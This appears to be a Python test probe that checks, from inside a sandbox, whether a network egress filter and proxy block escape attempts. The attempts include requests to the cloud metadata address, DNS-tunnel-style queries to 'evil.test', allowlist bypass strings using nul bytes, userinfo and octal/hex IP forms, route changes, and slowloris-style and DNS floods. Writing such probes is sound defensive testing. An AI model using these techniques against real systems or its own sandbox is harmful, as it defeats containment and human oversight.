"""What one program inside a sandbox can reach: prints what it found, as JSON. Its argument says which parts to try."""
import json, os, socket, ssl, struct, sys, threading, time

GATEWAY = "198.18.0.1"
found = {}


def attempt(what, action):
    try:
        found[what] = action()
    except Exception as error:
        found[what] = f"{type(error).__name__}: {error}"


def fetch(host, port, family=socket.AF_UNSPEC):
    with socket.create_connection((host, port), 9) as stream:
        stream.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
        answer = stream.recv(999)
        return "reached" if b"200" in answer else f"nothing: {answer}"


def send(host, port, bytes=b"x"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(5)
        udp.connect((host, port))
        udp.send(bytes)
        udp.recv(999)
        return "reached"


def question(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + labels + struct.pack(">BHH", 0, kind, 1)


def ask(name, kind):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(5)
        udp.sendto(question(name, kind), (GATEWAY, 53))
        answer = udp.recv(999)
        return f"code {answer[3] & 15}, {answer[7]} answers"


def icmp(kind, host):
    with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as ping:
        ping.settimeout(2)
        ping.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (host, 0))
        return "sent"


def listen():
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        return "listens"


def change_routes():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as kernel:
        attribute = struct.pack("=HHI", 4, 4, 1)
        route = struct.pack("=8BI", 2, 0, 0, 0, 254, 4, 0, 1, 0) + struct.pack("=HHI", 8, 4, 1)
        kernel.send(struct.pack("=IHHII", 16 + len(route), 24, 0x405, 1, 0) + route)
        code = struct.unpack("=i", kernel.recv(999)[16:20])[0]
        raise OSError(-code, os.strerror(-code))


def hostile(given):
    port, other_port = given["port"], given["other_port"]
    attempt("the allowed name", lambda: fetch("api.test", port))
    attempt("the allowed address", lambda: fetch("127.0.0.1", port))
    attempt("another address at the same port", lambda: fetch("127.0.0.2", port))
    attempt("an address that stands for nobody", lambda: fetch("28.18.15.200", port))
    attempt("a name that resolves to private addresses", lambda: fetch("rebound.test", port))
    attempt("an allowed name that does not resolve", lambda: fetch("unresolved.test", 80))
    attempt("an allowed name at a port of nobody", lambda: fetch("api.test", other_port))
    attempt("an allowed name at another's port", lambda: fetch("api.test", 80))
    attempt("another name", lambda: fetch("evil.test", port))
    attempt("a name below the allowed one", lambda: fetch("secret.api.test", port))
    attempt("an address of the internet", lambda: fetch("1.1.1.1", port))
    attempt("the metadata address", lambda: fetch("169.254.169.254", 80))
    attempt("an IPv6 address", lambda: fetch("2606:4700::1111", port))
    attempt("udp to the internet", lambda: send("1.1.1.1", 443))
    attempt("udp to the allowed name", lambda: send("api.test", port))
    attempt("another resolver", lambda: send("8.8.8.8", 53, question("api.test", 1)))
    attempt("icmp to the allowed name", lambda: icmp(socket.SOCK_DGRAM, "api.test"))
    attempt("raw icmp", lambda: icmp(socket.SOCK_RAW, "1.1.1.1"))
    attempt("to listen", listen)
    attempt("a txt question for another name", lambda: ask("c2VjcmV0.evil.test", 16))
    attempt("a txt question for the allowed name", lambda: ask("api.test", 16))
    attempt("an ipv6 question for the allowed name", lambda: ask("api.test", 28))
    attempt("a question for the allowed name", lambda: ask("api.test", 1))
    attempt("a change of routes", change_routes)


def tls(given):
    def shake_hands(name):
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        with socket.create_connection((given["host"], given["port"]), 9) as stream:
            with context.wrap_socket(stream, server_hostname=name or None) as secure:
                secure.sendall(b"GET / HTTP/1.1\r\n\r\n")
                return "reached" if b"200" in secure.recv(999) else "nothing"

    for name in given["names"]:
        attempt(f"tls for {name}", lambda: shake_hands(name))


def http(given):
    def answers(*words):
        with socket.create_connection(("api.test", given["port"]), 9) as stream:
            for word in words:
                stream.sendall(word)
                time.sleep(0.02)
            answer = b""
            while piece := stream.recv(999):
                answer += piece
            return " ".join(line.decode() for line in answer.split(b"\n") if line.startswith(b"for "))

    def request(host, target="/", more=b""):
        return f"GET {target} HTTP/1.1\r\nHost: {host}\r\n".encode() + more + b"\r\n"

    own, other = request("api.test"), request("other.test")
    attempt("one", lambda: answers(own))
    attempt("in pieces", lambda: answers(*(own[at : at + 1] for at in range(len(own)))))
    attempt("one for each connection", lambda: answers(own + other))
    attempt("one after the other", lambda: answers(own, other))
    attempt("one that would go on", lambda: answers(request("api.test", more=b"Connection: keep-alive\r\n") + other))
    attempt("refused: for another", lambda: answers(other))
    attempt("refused: for another in pieces", lambda: answers(*(other[at : at + 1] for at in range(len(other)))))
    attempt("refused: for two", lambda: answers(request("api.test", more=b"Host: other.test\r\n")))
    attempt("refused: for another by its target", lambda: answers(request("api.test", "http://other.test/")))


def proxy(given):
    port = given["port"]

    def say(*words):
        with socket.create_connection((GATEWAY, 3128), 9) as stream:
            answer = b""
            for word in words:
                stream.sendall(word)
                time.sleep(0.02)
            try:
                stream.shutdown(socket.SHUT_WR)
                while piece := stream.recv(999):
                    answer += piece
            except OSError:
                pass
            return answer

    def http(line):
        answer = say(line.encode("latin-1") + b"\r\nHost: x\r\n\r\n")
        return answer.split(b"\r\n")[0].decode() or "ended"

    def socks(kind, host, command=1):
        answer = say(b"\x05\x01\x00", bytes([5, command, 0, kind]) + host + struct.pack(">H", port))
        return f"socks {answer[3]}" if len(answer) > 3 else "ended"

    def named(name):
        return bytes([len(name)]) + name

    attempt("allowed: connect", lambda: http(f"CONNECT api.test:{port} HTTP/1.1"))
    attempt("allowed: connect in capitals", lambda: http(f"CONNECT API.TEST:{port} HTTP/1.1"))
    attempt("allowed: connect to an address", lambda: http(f"CONNECT 127.0.0.1:{port} HTTP/1.1"))
    attempt("allowed: connect to a mapped address", lambda: http(f"CONNECT [::ffff:127.0.0.1]:{port} HTTP/1.1"))
    attempt("allowed: socks", lambda: socks(3, named(b"api.test")))
    attempt("allowed: socks to an address", lambda: socks(1, b"\x7f\x00\x00\x01"))
    for number, target in enumerate(
        [
            f"evil.test:{port}",
            f"api.test\0.evil.test:{port}",
            f"evil.test\0.api.test:{port}",
            f"evil.test@api.test:{port}",
            f"api.test@evil.test:{port}",
            f"api.test.:{port}",
            f"127.1:{port}",
            f"2130706433:{port}",
            f"0x7f.0.0.1:{port}",
            f"0177.0.0.1:{port}",
            f"localhost:{port}",
            f"[::1]:{port}",
            f"127.0.0.2:{port}",
            f"198.18.0.1:{port}",
            "api.test:22",
            "api.test:0",
            "api.test",
            f"\u00e4pi.test:{port}",
        ]
    ):
        attempt(f"refused {number}: connect to {target!r}", lambda: http(f"CONNECT {target} HTTP/1.1"))
    attempt("refused: get", lambda: http(f"GET http://api.test:{port}/ HTTP/1.1"))
    attempt("refused: two lines", lambda: http(f"CONNECT evil.test:{port} HTTP/1.1\r\nCONNECT api.test:{port} HTTP/1.1"))
    attempt("refused: socks to another", lambda: socks(3, named(b"evil.test")))
    attempt("refused: socks with a nul", lambda: socks(3, named(b"evil.test\0.api.test")))
    attempt("refused: socks with a nul behind", lambda: socks(3, named(b"api.test\0")))
    attempt("refused: socks to another address", lambda: socks(1, b"\x7f\x00\x00\x02"))
    attempt("refused: socks udp", lambda: socks(3, named(b"api.test"), 3))
    attempt("refused: socks listening", lambda: socks(3, named(b"api.test"), 2))
    attempt("refused: socks to nothing", lambda: socks(9, b""))
    attempt("refused: garbage", lambda: say(os.urandom(50)).split(b"\r\n")[0].decode() or "ended")
    attempt("refused: an endless head", lambda: http("CONNECT " + "a" * 20000))


def limits(given):
    streams = []
    for _ in range(6):
        try:
            streams.append(socket.create_connection(("127.0.0.1", given["port"]), 9))
        except ConnectionResetError:
            pass
    time.sleep(0.5)

    def is_open(stream):
        stream.setblocking(False)
        try:
            return stream.recv(1) != b""
        except BlockingIOError:
            return True
        except OSError:
            return False

    found["open at once"] = str(sum(map(is_open, streams)))
    for stream in streams:
        stream.close()
    time.sleep(0.3)
    attempt("after they are closed", lambda: fetch("127.0.0.1", given["port"]))
    sent = 0
    try:
        with socket.create_connection(("127.0.0.1", given["swallowing"]), 9) as stream:
            while sent < 64 << 20:
                sent += stream.send(b"x" * 65536)
    except OSError:
        pass
    found["bytes before the cut"] = str(sent) if sent < 64 << 20 else "0: was not cut"


def flood(given):
    def garbage_for_names():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            for number in range(20000):
                udp.sendto(os.urandom(number % 700), (GATEWAY, 53))
                udp.sendto(question(f"n{number}.evil.test", 1 + number % 40), (GATEWAY, 53))

    def connect(port, bytes):
        stream = socket.socket()
        stream.setblocking(False)
        try:
            stream.connect((GATEWAY if port == 3128 else "127.0.0.1", port))
        except BlockingIOError:
            pass
        try:
            time.sleep(0.001)
            stream.send(bytes)
        except OSError:
            pass
        return stream

    thread = threading.Thread(target=garbage_for_names)
    thread.start()
    # A thousand that never finish what they begin, and as many as there can be open
    slow = [b"GET / HT", b"\x16\x03\x01\x02\x00\x01", b"CONNECT a", b"\x05", os.urandom(9)]
    streams = [connect(3128 if number % 2 else given["port"], slow[number % len(slow)]) for number in range(1000)]
    thread.join()
    print("ready", flush=True)
    sys.stdin.read()
    for stream in streams:
        stream.close()
    for _ in range(50):
        attempt("afterwards", lambda: fetch("127.0.0.1", given["port"]))
        if found["afterwards"] == "reached":
            break
        time.sleep(0.3)


for part, given in json.loads(sys.argv[1]).items():
    globals()[part](given)
print(json.dumps(found))
